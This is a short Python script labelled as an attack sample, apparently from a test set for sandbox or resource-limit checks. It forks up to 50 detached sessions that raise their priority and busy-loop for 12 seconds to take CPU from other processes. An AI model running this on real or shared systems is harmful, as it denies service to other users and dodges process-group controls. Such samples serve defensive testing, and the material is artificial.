# attack: busy processes, each in a session of its own, that take the CPUs of the others
# harmless: no
import os
import time

until = time.monotonic() + 12
try:
    os.sched_setaffinity(0, range(os.cpu_count()))
except OSError:
    pass
for _ in range(50):
    try:
        if os.fork() == 0:
            os.setsid()
            try:
                os.nice(-10)
            except OSError:
                pass
            while time.monotonic() < until:
                pass
            os._exit(0)
    except OSError:
        break
